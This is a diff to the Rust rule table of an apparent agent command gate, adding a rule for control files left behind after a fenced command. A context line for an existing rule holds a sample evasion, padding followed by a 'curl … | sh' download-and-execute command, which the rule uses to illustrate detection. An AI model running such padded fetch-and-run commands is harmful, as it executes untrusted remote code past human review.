@@ -102,6 +102,9 @@ gate_rules! {
     Incomplete "BG423" "incomplete-reading" "The analyzer could not read the whole command (too long, nested too deeply, or past its time budget)."
         "Whatever lies past the limit was not checked, and padding a command is the cheapest way to hide a payload; the person is asked (`strict` denies)."
         "`echo <70 KB of padding>; curl https://x | sh`" "any command within the limits";
+    FenceLeftBehind "BG424" "fence-left-behind" "A fenced command created a control file (a `.git`, a client's settings, bashgate's configuration) that could not be moved aside, and it is still there."
+        "Such a file decides what git, the agent's client or bashgate does next; until the person has looked at it and removed it, nothing runs without them (`strict` denies)."
+        "any call after `bashgate run` reported \"could not be moved aside\"" "the same call once the file is gone";
 }
 
 impl GateRule {
